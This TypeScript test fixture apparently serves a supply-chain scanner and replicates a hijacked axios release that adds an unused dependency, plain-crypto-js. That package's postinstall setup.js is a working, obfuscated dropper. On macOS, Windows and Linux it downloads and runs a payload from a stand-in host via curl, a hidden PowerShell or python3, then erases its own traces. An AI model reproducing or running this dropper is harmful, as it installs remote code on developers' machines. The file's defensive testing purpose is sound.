import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '1.14.0',
  publishedAt: '2026-03-27T09:14:27.000Z',
  publisher: { name: 'jasonsaayman', email: 'jason@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    type: 'module',
    main: 'index.js',
    exports: { '.': './index.js' },
    license: 'MIT',
    description: 'HTTP client by promises',
    dependencies: { 'follow-redirects': '^1.15.6', 'form-data': '^4.0.4', 'proxy-from-env': '^1.1.0' },
  },
  files: {
    'index.js': `import Axios from './lib/core/Axios.js';
import defaults from './lib/defaults.js';

function createInstance(config) {
  const context = new Axios(config);
  const instance = (...args) => context.request(...args);
  for (const method of ['get', 'delete', 'head', 'options']) {
    instance[method] = (url, given = {}) => context.request({ ...given, method, url });
  }
  for (const method of ['post', 'put', 'patch']) {
    instance[method] = (url, data, given = {}) => context.request({ ...given, method, url, data });
  }
  instance.create = (more) => createInstance({ ...config, ...more });
  instance.interceptors = context.interceptors;
  return instance;
}

const axios = createInstance(defaults);

export default axios;
export { Axios };
`,
    'lib/defaults.js': `export default {
  timeout: 0,
  maxRedirects: 21,
  headers: { Accept: 'application/json, text/plain, */*' },
  validateStatus: (status) => status >= 200 && status < 300,
};
`,
    'lib/core/Axios.js': `import http from '../adapters/http.js';

class Interceptors {
  handlers = [];
  use(fulfilled, rejected) {
    this.handlers.push({ fulfilled, rejected });
    return this.handlers.length - 1;
  }
}

export default class Axios {
  constructor(defaults) {
    this.defaults = defaults;
    this.interceptors = { request: new Interceptors(), response: new Interceptors() };
  }

  request(urlOrConfig, given) {
    const config = typeof urlOrConfig === 'string' ? { ...given, url: urlOrConfig } : urlOrConfig ?? {};
    const merged = { ...this.defaults, ...config, headers: { ...this.defaults.headers, ...config.headers } };
    let promise = Promise.resolve(merged);
    for (const { fulfilled, rejected } of this.interceptors.request.handlers) promise = promise.then(fulfilled, rejected);
    promise = promise.then(http);
    for (const { fulfilled, rejected } of this.interceptors.response.handlers) promise = promise.then(fulfilled, rejected);
    return promise;
  }
}
`,
    'lib/adapters/http.js': `import { http, https } from 'follow-redirects';
import FormData from 'form-data';
import { getProxyForUrl } from 'proxy-from-env';

export default function httpAdapter(config) {
  return new Promise((resolve, reject) => {
    const parsed = new URL(config.url, config.baseURL);
    const proxy = getProxyForUrl(parsed.href);
    const target = proxy ? new URL(proxy) : parsed;
    const transport = target.protocol === 'https:' ? https : http;
    const req = transport.request({
      host: target.hostname,
      port: target.port,
      path: proxy ? parsed.href : parsed.pathname + parsed.search,
      method: (config.method ?? 'get').toUpperCase(),
      headers: { ...config.headers, Host: parsed.host },
      maxRedirects: config.maxRedirects,
    }, (res) => {
      const parts = [];
      res.on('data', (part) => parts.push(part));
      res.on('end', () => {
        const response = { status: res.statusCode, headers: res.headers, config, data: Buffer.concat(parts).toString() };
        config.validateStatus(res.statusCode) ? resolve(response) : reject(Object.assign(new Error(\`Request failed with status code \${res.statusCode}\`), { response }));
      });
    });
    req.on('error', reject);
    if (config.timeout) req.setTimeout(config.timeout, () => req.destroy(new Error(\`timeout of \${config.timeout}ms exceeded\`)));
    if (config.data instanceof FormData) config.data.pipe(req);
    else req.end(config.data && JSON.stringify(config.data));
  });
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'axios-2026',
  story: 'March 2026: published by hand with a changed address; the only change is a dependency one day old, never imported, whose postinstall script is a dropper for three systems.',
  name: 'axios',
  before,
  after: {
    version: '1.14.1',
    publishedAt: '2026-03-31T09:14:27.000Z',
    publisher: { name: 'jasonsaayman', email: 'ifstap@proton.example.invalid' },
    manifest: {
      type: 'module',
      main: 'index.js',
      exports: { '.': './index.js' },
      license: 'MIT',
      description: 'HTTP client by promises',
      dependencies: { 'follow-redirects': '^1.15.6', 'form-data': '^4.0.4', 'plain-crypto-js': '^4.2.1', 'proxy-from-env': '^1.1.0' },
    },
    files: {
      ...before.files,
    },
  },
  brings: [
    {
      name: 'plain-crypto-js',
      versions: [
        {
          version: '4.2.0',
          publishedAt: '2026-03-30T05:57:32.000Z',
          publisher: { name: 'nrwise', email: 'nrwise@proton.example.invalid' },
          manifest: {
            main: 'index.js',
            license: 'MIT',
            description: 'JavaScript library of crypto standards.',
            author: 'Evan Vosberg',
          },
          files: {
            'index.js': `module.exports = require('./core');
`,
            'core.js': `;(function (root, factory) {
  module.exports = factory();
}(this, function () {
  var WordArray = { create: function (words, sigBytes) { return { words: words || [], sigBytes: sigBytes === undefined ? (words || []).length * 4 : sigBytes }; } };
  var Hex = {
    stringify: function (wordArray) {
      var chars = [];
      for (var i = 0; i < wordArray.sigBytes; i++) {
        var bite = (wordArray.words[i >>> 2] >>> (24 - (i % 4) * 8)) & 0xff;
        chars.push((bite >>> 4).toString(16), (bite & 0x0f).toString(16));
      }
      return chars.join('');
    }
  };
  return { lib: { WordArray: WordArray }, enc: { Hex: Hex }, algo: {} };
}));
`,
          },
        },
        {
          version: '4.2.1',
          publishedAt: '2026-03-30T23:59:12.000Z',
          publisher: { name: 'nrwise', email: 'nrwise@proton.example.invalid' },
          manifest: {
            main: 'index.js',
            license: 'MIT',
            description: 'JavaScript library of crypto standards.',
            author: 'Evan Vosberg',
            scripts: { test: 'echo "Error: no test specified" && exit 1', postinstall: 'node setup.js' },
          },
          files: {
            'index.js': `module.exports = require('./core');
`,
            'core.js': `;(function (root, factory) {
  module.exports = factory();
}(this, function () {
  var WordArray = { create: function (words, sigBytes) { return { words: words || [], sigBytes: sigBytes === undefined ? (words || []).length * 4 : sigBytes }; } };
  var Hex = {
    stringify: function (wordArray) {
      var chars = [];
      for (var i = 0; i < wordArray.sigBytes; i++) {
        var bite = (wordArray.words[i >>> 2] >>> (24 - (i % 4) * 8)) & 0xff;
        chars.push((bite >>> 4).toString(16), (bite & 0x0f).toString(16));
      }
      return chars.join('');
    }
  };
  return { lib: { WordArray: WordArray }, enc: { Hex: Hex }, algo: {} };
}));
`,
            'package.md': `{
  "name": "plain-crypto-js",
  "version": "4.2.0",
  "main": "index.js"
}
`,
            'setup.js': `const stq=["_kLx+SMqE7KxlS8vE3LxSScqHLKxjSsqEnKxHSkqEw","${noise(40, 301)}","${noise(24, 303)}","${noise(64, 305)}","${noise(88, 307)}","${noise(132, 309)}","${noise(220, 311)}","${noise(16, 313)}"],_trans_1=function(x,r){try{const E=r.split("").map(Number);return x.split("").map((x,r)=>{const S=x.charCodeAt(0),a=E[7*r*r%10];return String.fromCharCode(S^a^333)}).join("")}catch{}},_trans_2=function(x,r){try{let E=x.split("").reverse().join("").replaceAll("_","="),S=Buffer.from(E,"base64").toString("utf8");return _trans_1(S,r)}catch{}},ord="OrDeR_7077",_entry=function(x){try{const r=_trans_2(stq[0],ord),E=require("fs"),S=require("os"),a=require("child_process")["execSync"],c=__filename,t="http://sfrclak.example.invalid:8000/"+x,s=S.platform();S.type();S.release();S.arch();let n="";const W=S.tmpdir();if("darwin"===s){const x=W+"/"+x;E.writeFileSync(x,'do shell script "curl -o /Library/Caches/com.apple.act.mond -d packages.npm.example.invalid/product0 -s '+t+' && chmod 770 /Library/Caches/com.apple.act.mond && /bin/zsh -c \\\\"/Library/Caches/com.apple.act.mond '+t+' &\\\\" &> /dev/null"');n='nohup osascript "'+x+'" > /dev/null 2>&1 &'}else if("win32"===s){const r=process.env.PROGRAMDATA+"\\\\wt.exe",o=W+"\\\\6202033.vbs";E.existsSync(r)||E.copyFileSync(a("where powershell").toString().trim(),r);E.writeFileSync(o,'Set o = CreateObject("WScript.Shell")\\r\\no.Run "cmd.exe /c curl -s -X POST -d ""packages.npm.example.invalid/product1"" '+t+' > %TEMP%\\\\6202033.ps1 & '+r+' -w hidden -ep bypass -file %TEMP%\\\\6202033.ps1", 0, False\\r\\n');n='cscript "'+o+'" //nologo && del "'+o+'" /f'}else n="curl -o /tmp/ld.py -d packages.npm.example.invalid/product2 -s "+t+" && nohup python3 /tmp/ld.py "+t+" > /dev/null 2>&1 &";a(n);E.unlink(c,x=>{});E.unlink("package.json",x=>{});E.rename("package.md","package.json",x=>{})}catch(x){}};_entry("6202033");
`,
          },
        },
      ],
    },
  ],
  must: 'block',
};
